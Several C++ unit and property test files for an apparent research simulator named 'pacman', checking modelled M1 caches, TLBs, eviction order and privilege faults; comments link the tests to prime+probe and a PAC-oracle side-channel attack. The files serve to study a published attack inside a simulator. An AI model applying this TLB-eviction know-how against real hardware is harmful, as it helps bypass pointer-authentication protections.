    ASSERT_EQ(report.total(), 1u);
    const std::string desc = describeGadget(report.gadgets[0], prog);
    EXPECT_NE(desc.find("autda"), std::string::npos);
    EXPECT_NE(desc.find("ldr"), std::string::npos);
}

} // namespace
} // namespace pacman::analysis
