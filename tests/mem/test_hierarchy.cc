#include <gtest/gtest.h>

#include "mem/hierarchy.hh"

namespace pacman::mem
{
namespace
{

using isa::PageSize;

class HierarchyTest : public ::testing::Test
{
  protected:
    HierarchyTest()
        : rng(1), hier(m1PCoreConfig(), &rng)
    {
        hier.mapRange(UserBase, 64 * PageSize,
                      PageFlags{.user = true, .writable = true,
                                .executable = true, .device = false});
        hier.mapRange(KernBase, 256 * PageSize,
                      PageFlags{.user = false, .writable = true,
                                .executable = true, .device = false});
    }

    static constexpr Addr UserBase = 0x0000'4000'0000ull;
    static constexpr Addr KernBase = 0xFFFF'8000'0000'0000ull;

    AccessResult
    load(Addr va, unsigned el = 0, bool spec = false,
         AccessTrace *trace = nullptr)
    {
        return hier.access(AccessKind::Load, va, el, spec, trace);
    }

    Random rng;
    MemoryHierarchy hier;
};

TEST_F(HierarchyTest, ColdAccessWalksAndFills)
{
    AccessTrace trace;
    const auto res = load(UserBase, 0, false, &trace);
    EXPECT_EQ(res.fault, Fault::None);
    EXPECT_TRUE(trace.walked);
    EXPECT_FALSE(trace.l1TlbHit);
    // Second access: everything hits.
    AccessTrace t2;
    const auto res2 = load(UserBase, 0, false, &t2);
    EXPECT_TRUE(t2.l1TlbHit);
    EXPECT_TRUE(t2.l1CacheHit);
    EXPECT_LT(res2.latency, res.latency);
}

TEST_F(HierarchyTest, LatencyClassesAreOrdered)
{
    const auto &lat = hier.config().lat;
    // Warm up.
    load(UserBase);
    const auto hit = load(UserBase);
    EXPECT_EQ(hit.latency, lat.l1Hit);

    // Evict just the dTLB set: 12 aliasing pages, offset by i*128 B
    // so they do not also alias the cache sets (the reason the paper
    // adds the same term in Section 7.2).
    for (unsigned i = 1; i <= 12; ++i) {
        const Addr alias = UserBase + 0x1'0000'0000ull +
                           uint64_t(i) * 256 * PageSize +
                           uint64_t(i) * 128;
        hier.mapPage(alias, PageFlags{.user = true, .writable = true,
                                      .executable = false,
                                      .device = false});
        load(alias);
    }
    AccessTrace trace;
    const auto dtlb_miss = load(UserBase, 0, false, &trace);
    EXPECT_FALSE(trace.l1TlbHit);
    EXPECT_TRUE(trace.l2TlbHit);
    EXPECT_EQ(dtlb_miss.latency, lat.l1Hit + lat.l1TlbMissPenalty);
}

TEST_F(HierarchyTest, NonCanonicalPointerFaultsWithoutSideEffects)
{
    load(UserBase); // warm
    const uint64_t dtlb_misses = hier.dtlb().misses();
    const auto res = load(UserBase | (0x0003ull << 48));
    EXPECT_EQ(res.fault, Fault::Translation);
    EXPECT_LE(res.latency, 1u);
    // No TLB lookup happened at all.
    EXPECT_EQ(hier.dtlb().misses(), dtlb_misses);
}

TEST_F(HierarchyTest, UnmappedPageFaultsAfterWalk)
{
    const auto res = load(0x0000'7ABC'0000ull);
    EXPECT_EQ(res.fault, Fault::Translation);
    EXPECT_GE(res.latency, hier.config().lat.walkPenalty);
}

TEST_F(HierarchyTest, El0CannotTouchKernelPages)
{
    const auto res = load(KernBase, 0);
    EXPECT_EQ(res.fault, Fault::Permission);
    // EL1 can.
    EXPECT_EQ(load(KernBase, 1).fault, Fault::None);
}

TEST_F(HierarchyTest, StoreNeedsWritable)
{
    hier.mapPage(UserBase + 40 * PageSize,
                 PageFlags{.user = true, .writable = false,
                           .executable = false, .device = false});
    const auto res = hier.access(AccessKind::Store,
                                 UserBase + 40 * PageSize, 0, false);
    EXPECT_EQ(res.fault, Fault::Permission);
}

TEST_F(HierarchyTest, FetchNeedsExecutable)
{
    hier.mapPage(UserBase + 41 * PageSize,
                 PageFlags{.user = true, .writable = true,
                           .executable = false, .device = false});
    const auto res = hier.access(AccessKind::Fetch,
                                 UserBase + 41 * PageSize, 0, false);
    EXPECT_EQ(res.fault, Fault::Permission);
}

TEST_F(HierarchyTest, SharedDtlbAcrossPrivilegeLevels)
{
    // Kernel data access fills the shared dTLB; a user page aliasing
    // the same set competes with it (Figure 6's key property).
    const Addr kpage = KernBase + 3 * PageSize;
    hier.access(AccessKind::Load, kpage, 1, false);
    EXPECT_TRUE(hier.dtlb().contains(isa::pageNumber(isa::vaPart(kpage)),
                                     Asid::Kernel));
}

TEST_F(HierarchyTest, ItlbSplitPerPrivilegeLevel)
{
    const Addr upage = UserBase + 5 * PageSize;
    const Addr kpage = KernBase + 5 * PageSize;
    hier.access(AccessKind::Fetch, upage, 0, false);
    hier.access(AccessKind::Fetch, kpage, 1, false);
    EXPECT_TRUE(hier.itlb(0).contains(
        isa::pageNumber(isa::vaPart(upage)), Asid::User));
    EXPECT_FALSE(hier.itlb(0).contains(
        isa::pageNumber(isa::vaPart(kpage)), Asid::Kernel));
    EXPECT_TRUE(hier.itlb(1).contains(
        isa::pageNumber(isa::vaPart(kpage)), Asid::Kernel));
}

TEST_F(HierarchyTest, ItlbEvictionSpillsIntoDtlb)
{
    // Section 7.3: evicting an iTLB entry inserts it into the dTLB.
    const auto &itlb_cfg = hier.config().itlb;
    const Addr base = KernBase; // iTLB set of page 0
    const uint64_t vpn0 = isa::pageNumber(isa::vaPart(base));
    hier.access(AccessKind::Fetch, base, 1, false);
    EXPECT_FALSE(hier.dtlb().contains(vpn0, Asid::Kernel));
    // Fill the same iTLB set with `ways` more pages.
    for (unsigned i = 1; i <= itlb_cfg.ways; ++i) {
        hier.access(AccessKind::Fetch,
                    base + uint64_t(i) * itlb_cfg.sets * PageSize, 1,
                    false);
    }
    EXPECT_FALSE(hier.itlb(1).contains(vpn0, Asid::Kernel));
    EXPECT_TRUE(hier.dtlb().contains(vpn0, Asid::Kernel));
}

TEST_F(HierarchyTest, ItlbMissServedByDtlbMovesEntry)
{
    // A data access caches the translation in the dTLB; a subsequent
    // fetch finds it there (backing-store probe) and migrates it.
    const Addr page = UserBase + 9 * PageSize;
    const uint64_t vpn = isa::pageNumber(isa::vaPart(page));
    load(page);
    EXPECT_TRUE(hier.dtlb().contains(vpn, Asid::User));
    AccessTrace trace;
    hier.access(AccessKind::Fetch, page, 0, false, &trace);
    EXPECT_TRUE(trace.spillServed);
    EXPECT_TRUE(hier.itlb(0).contains(vpn, Asid::User));
    EXPECT_FALSE(hier.dtlb().contains(vpn, Asid::User));
}

TEST_F(HierarchyTest, DelayOnMissBlocksSpeculativeFills)
{
    auto cfg = m1PCoreConfig();
    cfg.delayOnMiss = true;
    Random rng2(2);
    MemoryHierarchy h2(cfg, &rng2);
    h2.mapPage(UserBase, PageFlags{.user = true, .writable = true,
                                   .executable = false,
                                   .device = false});
    // Speculative access: translated but nothing allocated.
    const auto res = h2.access(AccessKind::Load, UserBase, 0, true);
    EXPECT_EQ(res.fault, Fault::None);
    EXPECT_FALSE(h2.dtlb().contains(
        isa::pageNumber(isa::vaPart(UserBase)), Asid::User));
    // Demand access still fills.
    h2.access(AccessKind::Load, UserBase, 0, false);
    EXPECT_TRUE(h2.dtlb().contains(
        isa::pageNumber(isa::vaPart(UserBase)), Asid::User));
}

TEST_F(HierarchyTest, FunctionalAccessLeavesNoTrace)
{
    hier.writeVirt64(UserBase + 8, 0xABCDull);
    EXPECT_EQ(hier.readVirt64(UserBase + 8), 0xABCDull);
    EXPECT_FALSE(hier.dtlb().contains(
        isa::pageNumber(isa::vaPart(UserBase)), Asid::User));
}

TEST_F(HierarchyTest, LoadStoreValuesThroughHierarchy)
{
    const auto st = hier.access(AccessKind::Store, UserBase + 16, 0,
                                false);
    ASSERT_EQ(st.fault, Fault::None);
    hier.storeValue(st, UserBase + 16, 0x77, 8);
    const auto ld = load(UserBase + 16);
    EXPECT_EQ(hier.loadValue(ld, UserBase + 16, 8), 0x77u);
}

TEST_F(HierarchyTest, L2TlbEvictionForcesWalk)
{
    load(UserBase); // fill
    // Evict the L2 TLB set (23 ways) — also evicts the dTLB set.
    for (unsigned i = 1; i <= 23; ++i) {
        const Addr alias = UserBase + 0x2'0000'0000ull +
                           uint64_t(i) * 2048 * PageSize;
        hier.mapPage(alias, PageFlags{.user = true, .writable = true,
                                      .executable = false,
                                      .device = false});
        load(alias);
    }
    AccessTrace trace;
    load(UserBase, 0, false, &trace);
    EXPECT_TRUE(trace.walked);
}

} // namespace
} // namespace pacman::mem
