#include <gtest/gtest.h>

#include "mem/cache.hh"

namespace pacman::mem
{
namespace
{

SetAssocConfig
smallCache()
{
    return {"test", 4, 16, 64}; // 4-way, 16 sets, 64 B lines
}

TEST(Cache, MissThenHit)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    EXPECT_FALSE(c.access(0x1000));
    EXPECT_TRUE(c.access(0x1000));
    EXPECT_TRUE(c.access(0x103F)); // same line
    EXPECT_FALSE(c.access(0x1040)); // next line
    EXPECT_EQ(c.hits(), 2u);
    EXPECT_EQ(c.misses(), 2u);
}

TEST(Cache, SetIndexing)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    EXPECT_EQ(c.setIndex(0x0), 0u);
    EXPECT_EQ(c.setIndex(64), 1u);
    EXPECT_EQ(c.setIndex(64 * 16), 0u); // wraps at 16 sets
}

TEST(Cache, LruEvictionOrder)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    const uint64_t way_span = 16 * 64; // same-set stride
    // Fill set 0 with lines A..D.
    for (uint64_t i = 0; i < 4; ++i)
        c.access(i * way_span);
    // Touch A so B becomes LRU.
    c.access(0);
    // Insert E: must evict B.
    c.access(4 * way_span);
    EXPECT_TRUE(c.contains(0));
    EXPECT_FALSE(c.contains(1 * way_span));
    EXPECT_TRUE(c.contains(2 * way_span));
    EXPECT_TRUE(c.contains(3 * way_span));
    EXPECT_TRUE(c.contains(4 * way_span));
}

TEST(Cache, AssociativityExactlyHolds)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    const uint64_t way_span = 16 * 64;
    for (uint64_t i = 0; i < 4; ++i)
        c.access(i * way_span);
    // All four still present.
    for (uint64_t i = 0; i < 4; ++i)
        EXPECT_TRUE(c.contains(i * way_span));
}

TEST(Cache, DifferentSetsDoNotConflict)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    for (uint64_t i = 0; i < 16; ++i)
        c.access(i * 64);
    for (uint64_t i = 0; i < 16; ++i)
        EXPECT_TRUE(c.contains(i * 64));
}

TEST(Cache, InvalidateAndFlush)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    c.access(0x1000);
    c.access(0x2000);
    c.invalidate(0x1000);
    EXPECT_FALSE(c.contains(0x1000));
    EXPECT_TRUE(c.contains(0x2000));
    c.flushAll();
    EXPECT_FALSE(c.contains(0x2000));
}

TEST(Cache, ContainsDoesNotPerturbLru)
{
    Cache c(smallCache(), ReplPolicy::LRU, nullptr);
    const uint64_t way_span = 16 * 64;
    for (uint64_t i = 0; i < 4; ++i)
        c.access(i * way_span);
    // contains() on the LRU line (0) must not refresh it.
    EXPECT_TRUE(c.contains(0));
    c.access(4 * way_span);
    EXPECT_FALSE(c.contains(0)); // still evicted as LRU
}

TEST(Cache, RandomPolicyStaysWithinSet)
{
    Random rng(3);
    Cache c(smallCache(), ReplPolicy::Random, &rng);
    const uint64_t way_span = 16 * 64;
    for (uint64_t i = 0; i < 20; ++i)
        c.access(i * way_span);
    // Exactly 4 of the conflicting lines can be present.
    unsigned present = 0;
    for (uint64_t i = 0; i < 20; ++i)
        present += c.contains(i * way_span);
    EXPECT_EQ(present, 4u);
}

TEST(Cache, M1GeometryCapacities)
{
    const auto cfg = m1PCoreConfig();
    EXPECT_EQ(cfg.l1i.capacityBytes(), 192u * 1024);
    EXPECT_EQ(cfg.l1d.capacityBytes(), 128u * 1024);
    EXPECT_EQ(cfg.l2.capacityBytes(), 12u * 1024 * 1024);
    const auto ecfg = m1ECoreConfig();
    EXPECT_EQ(ecfg.l1i.capacityBytes(), 128u * 1024);
    EXPECT_EQ(ecfg.l2.capacityBytes(), 4u * 1024 * 1024);
}

TEST(Cache, ResetStatsPreservesReplacementVictim)
{
    // resetStats rebases the LRU stamps (so long campaigns cannot
    // overflow the tick) but must not change relative recency: twin
    // caches, one reset mid-stream, must keep evicting the same
    // victims.
    Cache a(smallCache(), ReplPolicy::LRU, nullptr);
    Cache b(smallCache(), ReplPolicy::LRU, nullptr);
    const uint64_t way_span = 16 * 64;
    const auto warm = [&](Cache &c) {
        for (uint64_t i = 0; i < 4; ++i)
            c.access(i * way_span); // fill set 0: A B C D
        c.access(2 * way_span);     // refresh C
        c.access(0);                // refresh A; LRU order B < D < C < A
    };
    warm(a);
    warm(b);

    b.resetStats();
    EXPECT_EQ(b.hits(), 0u);
    EXPECT_EQ(b.misses(), 0u);

    // Three inserts walk the whole recency order; contents must stay
    // in lockstep at every step.
    for (uint64_t n = 4; n < 7; ++n) {
        a.access(n * way_span);
        b.access(n * way_span);
        for (uint64_t i = 0; i <= n; ++i)
            EXPECT_EQ(a.contains(i * way_span), b.contains(i * way_span))
                << "insert " << n << " line " << i;
    }
    // First victim really was the expected one (guards against both
    // twins being wrong the same way after a trivial warm-up).
    EXPECT_TRUE(a.contains(0));
    EXPECT_FALSE(a.contains(1 * way_span));
}

TEST(CacheDeath, NonPowerOfTwoSetsFatal)
{
    auto make_bad = [] {
        SetAssocConfig bad;
        bad.name = "bad";
        bad.ways = 4;
        bad.sets = 12;
        bad.lineBytes = 64;
        Cache c(bad, ReplPolicy::LRU, nullptr);
    };
    EXPECT_EXIT(make_bad(), ::testing::ExitedWithCode(1),
                "not a power of two");
}

} // namespace
} // namespace pacman::mem
