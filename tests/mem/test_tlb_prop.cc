/**
 * @file
 * Property tests for the TLB model: random lookup/insert/remove
 * streams replayed against a naive reference implementation.
 */

#include <gtest/gtest.h>

#include <list>
#include <map>
#include <tuple>
#include <utility>

#include "base/random.hh"
#include "mem/tlb.hh"

namespace pacman::mem
{
namespace
{

/** Naive reference TLB with explicit per-set LRU lists. */
class RefTlb
{
  public:
    RefTlb(unsigned ways, unsigned sets) : ways_(ways), sets_(sets) {}

    using Key = std::pair<uint64_t, Asid>;

    bool
    lookup(uint64_t vpn, Asid asid)
    {
        auto &lru = sets_map_[vpn % sets_];
        for (auto it = lru.begin(); it != lru.end(); ++it) {
            if (*it == Key{vpn, asid}) {
                lru.erase(it);
                lru.push_back({vpn, asid});
                return true;
            }
        }
        return false;
    }

    /** @return evicted key, if any. */
    std::optional<Key>
    insert(uint64_t vpn, Asid asid)
    {
        auto &lru = sets_map_[vpn % sets_];
        for (auto it = lru.begin(); it != lru.end(); ++it) {
            if (*it == Key{vpn, asid}) {
                lru.erase(it);
                lru.push_back({vpn, asid});
                return std::nullopt;
            }
        }
        lru.push_back({vpn, asid});
        if (lru.size() > ways_) {
            const Key victim = lru.front();
            lru.pop_front();
            return victim;
        }
        return std::nullopt;
    }

    void
    remove(uint64_t vpn, Asid asid)
    {
        auto &lru = sets_map_[vpn % sets_];
        lru.remove(Key{vpn, asid});
    }

    bool
    contains(uint64_t vpn, Asid asid) const
    {
        auto it = sets_map_.find(vpn % sets_);
        if (it == sets_map_.end())
            return false;
        for (const Key &k : it->second) {
            if (k == Key{vpn, asid})
                return true;
        }
        return false;
    }

  private:
    unsigned ways_, sets_;
    std::map<uint64_t, std::list<Key>> sets_map_;
};

using Shape = std::tuple<unsigned, unsigned>;

class TlbPropTest : public ::testing::TestWithParam<Shape>
{
};

TEST_P(TlbPropTest, MatchesReferenceModelOnRandomOps)
{
    const auto [ways, sets] = GetParam();
    SetAssocConfig cfg;
    cfg.name = "prop";
    cfg.ways = ways;
    cfg.sets = sets;
    Tlb tlb(cfg, ReplPolicy::LRU, nullptr);
    RefTlb ref(ways, sets);

    Random rng(uint64_t(ways) * 31 + sets);
    const uint64_t vpn_span = 4ull * ways * sets;
    for (int i = 0; i < 20000; ++i) {
        const uint64_t vpn = rng.next(vpn_span);
        const Asid asid = rng.chance(0.3) ? Asid::Kernel : Asid::User;
        switch (rng.next(3)) {
          case 0:
            ASSERT_EQ(tlb.lookup(vpn, asid).has_value(),
                      ref.lookup(vpn, asid))
                << "lookup step " << i;
            break;
          case 1: {
            const auto ev = tlb.insert(TlbEntry{vpn, asid, vpn, true,
                                                false});
            const auto rev = ref.insert(vpn, asid);
            ASSERT_EQ(ev.has_value(), rev.has_value())
                << "insert step " << i;
            if (ev) {
                ASSERT_EQ(ev->vpn, rev->first);
                ASSERT_EQ(ev->asid, rev->second);
            }
            break;
          }
          default:
            tlb.remove(vpn, asid);
            ref.remove(vpn, asid);
            break;
        }
    }
    for (int i = 0; i < 3000; ++i) {
        const uint64_t vpn = rng.next(vpn_span);
        const Asid asid = rng.chance(0.5) ? Asid::Kernel : Asid::User;
        ASSERT_EQ(tlb.contains(vpn, asid), ref.contains(vpn, asid));
    }
}

TEST_P(TlbPropTest, PayloadSurvivesResidency)
{
    const auto [ways, sets] = GetParam();
    SetAssocConfig cfg;
    cfg.name = "prop";
    cfg.ways = ways;
    cfg.sets = sets;
    Tlb tlb(cfg, ReplPolicy::LRU, nullptr);

    tlb.insert(TlbEntry{7, Asid::User, 0xABC, true, false});
    const auto hit = tlb.lookup(7, Asid::User);
    ASSERT_TRUE(hit.has_value());
    EXPECT_EQ(hit->ppn, 0xABCu);
    EXPECT_TRUE(hit->writable);
    EXPECT_FALSE(hit->executable);
}

TEST_P(TlbPropTest, PrimeProbeCountMatchesVictimAccesses)
{
    // The oracle's physics at every shape: prime a set, let a victim
    // touch k aliasing pages, count displaced entries == min(k, ways).
    const auto [ways, sets] = GetParam();
    SetAssocConfig cfg;
    cfg.name = "prop";
    cfg.ways = ways;
    cfg.sets = sets;
    for (unsigned k = 0; k <= ways; ++k) {
        Tlb tlb(cfg, ReplPolicy::LRU, nullptr);
        for (unsigned i = 0; i < ways; ++i)
            tlb.insert(TlbEntry{3 + uint64_t(i) * sets, Asid::User,
                                i, true, false});
        for (unsigned v = 0; v < k; ++v)
            tlb.insert(TlbEntry{3 + uint64_t(ways + v) * sets,
                                Asid::Kernel, v, true, false});
        unsigned displaced = 0;
        for (unsigned i = 0; i < ways; ++i) {
            displaced +=
                !tlb.contains(3 + uint64_t(i) * sets, Asid::User);
        }
        EXPECT_EQ(displaced, k) << "k=" << k;
    }
}

INSTANTIATE_TEST_SUITE_P(
    Shapes, TlbPropTest,
    ::testing::Values(Shape{1, 8},
                      Shape{2, 16},
                      Shape{4, 32},    // M1 iTLB
                      Shape{12, 256},  // M1 dTLB
                      Shape{23, 2048}, // M1 L2 TLB
                      Shape{3, 4}),
    [](const ::testing::TestParamInfo<Shape> &info) {
        return "w" + std::to_string(std::get<0>(info.param)) + "s" +
               std::to_string(std::get<1>(info.param));
    });

} // namespace
} // namespace pacman::mem
