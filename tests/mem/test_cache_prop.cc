/**
 * @file
 * Property tests for the cache model: random access streams are
 * replayed against a naive reference implementation (map of sets,
 * explicit LRU lists) and the outcomes must match exactly.
 */

#include <gtest/gtest.h>

#include <list>
#include <map>
#include <tuple>
#include <vector>

#include "base/random.hh"
#include "mem/cache.hh"

namespace pacman::mem
{
namespace
{

/** Naive reference: per-set list ordered LRU -> MRU. */
class RefCache
{
  public:
    RefCache(unsigned ways, unsigned sets, unsigned line)
        : ways_(ways), sets_(sets), line_(line)
    {
    }

    bool
    access(Addr pa)
    {
        const uint64_t lineno = pa / line_;
        const uint64_t set = lineno % sets_;
        const uint64_t tag = lineno / sets_;
        auto &lru = sets_map_[set];
        for (auto it = lru.begin(); it != lru.end(); ++it) {
            if (*it == tag) {
                lru.erase(it);
                lru.push_back(tag);
                return true;
            }
        }
        lru.push_back(tag);
        if (lru.size() > ways_)
            lru.pop_front();
        return false;
    }

    bool
    contains(Addr pa) const
    {
        const uint64_t lineno = pa / line_;
        const uint64_t set = lineno % sets_;
        const uint64_t tag = lineno / sets_;
        auto it = sets_map_.find(set);
        if (it == sets_map_.end())
            return false;
        for (uint64_t t : it->second) {
            if (t == tag)
                return true;
        }
        return false;
    }

  private:
    unsigned ways_, sets_, line_;
    std::map<uint64_t, std::list<uint64_t>> sets_map_;
};

using Geometry = std::tuple<unsigned, unsigned, unsigned>;

class CachePropTest : public ::testing::TestWithParam<Geometry>
{
};

TEST_P(CachePropTest, MatchesReferenceModelOnRandomStream)
{
    const auto [ways, sets, line] = GetParam();
    SetAssocConfig cfg;
    cfg.name = "prop";
    cfg.ways = ways;
    cfg.sets = sets;
    cfg.lineBytes = line;
    Cache cache(cfg, ReplPolicy::LRU, nullptr);
    RefCache ref(ways, sets, line);

    Random rng(uint64_t(ways) * 1000 + sets);
    // Footprint ~3x capacity so hits and evictions both occur.
    const uint64_t span = 3ull * ways * sets * line;
    for (int i = 0; i < 20000; ++i) {
        const Addr pa = rng.next(span);
        ASSERT_EQ(cache.access(pa), ref.access(pa)) << "step " << i;
    }
    // Final state agreement over a sample of addresses.
    for (int i = 0; i < 2000; ++i) {
        const Addr pa = rng.next(span);
        ASSERT_EQ(cache.contains(pa), ref.contains(pa));
    }
}

TEST_P(CachePropTest, CapacityNeverExceeded)
{
    const auto [ways, sets, line] = GetParam();
    SetAssocConfig cfg;
    cfg.name = "prop";
    cfg.ways = ways;
    cfg.sets = sets;
    cfg.lineBytes = line;
    Cache cache(cfg, ReplPolicy::LRU, nullptr);

    // Touch far more lines than capacity, then count residents.
    const unsigned lines = 4 * ways * sets;
    for (unsigned i = 0; i < lines; ++i)
        cache.access(uint64_t(i) * line);
    unsigned resident = 0;
    for (unsigned i = 0; i < lines; ++i)
        resident += cache.contains(uint64_t(i) * line);
    EXPECT_LE(resident, ways * sets);
    EXPECT_EQ(resident, ways * sets); // fully warm
}

TEST_P(CachePropTest, MostRecentWorkingSetResident)
{
    const auto [ways, sets, line] = GetParam();
    SetAssocConfig cfg;
    cfg.name = "prop";
    cfg.ways = ways;
    cfg.sets = sets;
    cfg.lineBytes = line;
    Cache cache(cfg, ReplPolicy::LRU, nullptr);

    // Thrash, then touch a capacity-sized working set: with LRU the
    // whole most-recent working set must be resident.
    Random rng(9);
    for (int i = 0; i < 5000; ++i)
        cache.access(rng.next(1 << 22));
    for (unsigned i = 0; i < ways * sets; ++i)
        cache.access(uint64_t(i) * line);
    for (unsigned i = 0; i < ways * sets; ++i)
        EXPECT_TRUE(cache.contains(uint64_t(i) * line)) << i;
}

INSTANTIATE_TEST_SUITE_P(
    Geometries, CachePropTest,
    ::testing::Values(Geometry{1, 4, 64},    // direct-mapped
                      Geometry{2, 8, 64},
                      Geometry{4, 16, 64},
                      Geometry{4, 512, 64},  // M1 L1D (observed)
                      Geometry{6, 512, 64},  // M1 L1I
                      Geometry{8, 2, 128},   // tiny, high-assoc
                      Geometry{12, 32, 128}),
    [](const ::testing::TestParamInfo<Geometry> &info) {
        return "w" + std::to_string(std::get<0>(info.param)) + "s" +
               std::to_string(std::get<1>(info.param)) + "l" +
               std::to_string(std::get<2>(info.param));
    });

TEST(CacheHashedIndex, AllSetsReachableAndStable)
{
    SetAssocConfig cfg;
    cfg.name = "hashed";
    cfg.ways = 4;
    cfg.sets = 64;
    cfg.lineBytes = 64;
    cfg.hashedIndex = true;
    Cache cache(cfg, ReplPolicy::LRU, nullptr);

    // Same line always maps to the same set (line-aligned bases).
    for (Addr pa : {0x0ull, 0x12340ull & ~63ull, 0xFFFF0000ull}) {
        EXPECT_EQ(cache.setIndex(pa), cache.setIndex(pa));
        EXPECT_EQ(cache.setIndex(pa), cache.setIndex(pa + 63));
    }
    // Sequential lines cover every set.
    std::vector<bool> seen(cfg.sets, false);
    for (unsigned i = 0; i < cfg.sets; ++i)
        seen[cache.setIndex(uint64_t(i) * 64)] = true;
    for (unsigned s = 0; s < cfg.sets; ++s)
        EXPECT_TRUE(seen[s]) << "set " << s;
}

TEST(CacheHashedIndex, SpreadsLargePowerOfTwoStrides)
{
    // The property Figure 5(b) relies on: strides that alias every
    // set of a linearly indexed cache spread out under hashing.
    SetAssocConfig cfg;
    cfg.name = "hashed";
    cfg.ways = 4;
    cfg.sets = 64;
    cfg.lineBytes = 64;
    cfg.hashedIndex = true;
    Cache cache(cfg, ReplPolicy::LRU, nullptr);

    const uint64_t stride = 64 * 64; // sets * line: full alias if linear
    std::vector<bool> seen(cfg.sets, false);
    unsigned distinct = 0;
    for (unsigned i = 0; i < 32; ++i) {
        const uint64_t set = cache.setIndex(uint64_t(i) * stride);
        if (!seen[set]) {
            seen[set] = true;
            ++distinct;
        }
    }
    EXPECT_GT(distinct, 8u); // far better than the linear case (1)
}

} // namespace
} // namespace pacman::mem
