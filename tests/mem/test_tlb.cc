#include <gtest/gtest.h>

#include "mem/tlb.hh"

namespace pacman::mem
{
namespace
{

SetAssocConfig
smallTlb()
{
    return {"tlb", 3, 8, 1}; // 3-way, 8 sets
}

TlbEntry
entry(uint64_t vpn, Asid asid = Asid::User)
{
    return TlbEntry{vpn, asid, vpn, true, false};
}

TEST(Tlb, MissThenHit)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    EXPECT_FALSE(t.lookup(5, Asid::User).has_value());
    t.insert(entry(5));
    const auto hit = t.lookup(5, Asid::User);
    ASSERT_TRUE(hit.has_value());
    EXPECT_EQ(hit->ppn, 5u);
    EXPECT_EQ(t.hits(), 1u);
    EXPECT_EQ(t.misses(), 1u);
}

TEST(Tlb, AsidSeparatesEntries)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    t.insert(entry(5, Asid::User));
    EXPECT_FALSE(t.lookup(5, Asid::Kernel).has_value());
    t.insert(entry(5, Asid::Kernel));
    EXPECT_TRUE(t.lookup(5, Asid::Kernel).has_value());
    EXPECT_TRUE(t.lookup(5, Asid::User).has_value());
}

TEST(Tlb, SharedStructureCrossAsidConflicts)
{
    // The attack's core property: kernel and user translations
    // compete for the same set regardless of ASID.
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    t.insert(entry(0, Asid::User));
    t.insert(entry(8, Asid::User));
    t.insert(entry(16, Asid::User));
    // Kernel entry in set 0 evicts the LRU user entry.
    t.insert(entry(24, Asid::Kernel));
    EXPECT_FALSE(t.contains(0, Asid::User));
    EXPECT_TRUE(t.contains(8, Asid::User));
    EXPECT_TRUE(t.contains(24, Asid::Kernel));
}

TEST(Tlb, InsertReportsEviction)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    EXPECT_FALSE(t.insert(entry(0)).has_value());
    EXPECT_FALSE(t.insert(entry(8)).has_value());
    EXPECT_FALSE(t.insert(entry(16)).has_value());
    const auto evicted = t.insert(entry(24));
    ASSERT_TRUE(evicted.has_value());
    EXPECT_EQ(evicted->vpn, 0u); // LRU victim
}

TEST(Tlb, ReinsertRefreshesInPlace)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    t.insert(entry(0));
    t.insert(entry(8));
    t.insert(entry(16));
    t.insert(entry(0)); // refresh, no eviction
    const auto evicted = t.insert(entry(24));
    ASSERT_TRUE(evicted.has_value());
    EXPECT_EQ(evicted->vpn, 8u); // 8 became LRU
}

TEST(Tlb, LookupRefreshesLru)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    t.insert(entry(0));
    t.insert(entry(8));
    t.insert(entry(16));
    t.lookup(0, Asid::User);
    const auto evicted = t.insert(entry(24));
    ASSERT_TRUE(evicted.has_value());
    EXPECT_EQ(evicted->vpn, 8u);
}

TEST(Tlb, RemoveReturnsEntry)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    t.insert(entry(3));
    const auto removed = t.remove(3, Asid::User);
    ASSERT_TRUE(removed.has_value());
    EXPECT_EQ(removed->vpn, 3u);
    EXPECT_FALSE(t.contains(3, Asid::User));
    EXPECT_FALSE(t.remove(3, Asid::User).has_value());
}

TEST(Tlb, PrimeProbeSemantics)
{
    // Prime a set with exactly `ways` entries, insert one victim
    // access, and verify exactly one primed entry was displaced —
    // the signal the PAC oracle reads.
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    for (uint64_t i = 0; i < 3; ++i)
        t.insert(entry(2 + 8 * i, Asid::User)); // set 2
    t.insert(entry(2 + 8 * 100, Asid::Kernel)); // victim access
    unsigned present = 0;
    for (uint64_t i = 0; i < 3; ++i)
        present += t.contains(2 + 8 * i, Asid::User);
    EXPECT_EQ(present, 2u);
}

TEST(Tlb, FlushAllEmpties)
{
    Tlb t(smallTlb(), ReplPolicy::LRU, nullptr);
    t.insert(entry(1));
    t.insert(entry(2));
    t.flushAll();
    EXPECT_FALSE(t.contains(1, Asid::User));
    EXPECT_FALSE(t.contains(2, Asid::User));
}

TEST(Tlb, ResetStatsPreservesReplacementVictim)
{
    // The LRU-stamp rebase in resetStats must leave the replacement
    // victim unchanged: twin TLBs, identical streams, one reset
    // mid-stream, must report identical evictions afterwards.
    Tlb a(smallTlb(), ReplPolicy::LRU, nullptr);
    Tlb b(smallTlb(), ReplPolicy::LRU, nullptr);
    const auto warm = [&](Tlb &t) {
        t.insert(entry(0));
        t.insert(entry(8));
        t.insert(entry(16));
        t.lookup(8, Asid::User); // refresh: LRU order 0 < 16 < 8
    };
    warm(a);
    warm(b);

    b.resetStats();
    EXPECT_EQ(b.hits(), 0u);
    EXPECT_EQ(b.misses(), 0u);

    // Walk the whole recency order; victims must match at each step.
    const uint64_t expected[] = {0, 16, 8};
    for (unsigned n = 0; n < 3; ++n) {
        const auto va = a.insert(entry(24 + 8 * n));
        const auto vb = b.insert(entry(24 + 8 * n));
        ASSERT_TRUE(va.has_value());
        ASSERT_TRUE(vb.has_value());
        EXPECT_EQ(va->vpn, vb->vpn) << "insert " << n;
        EXPECT_EQ(va->vpn, expected[n]) << "insert " << n;
    }
}

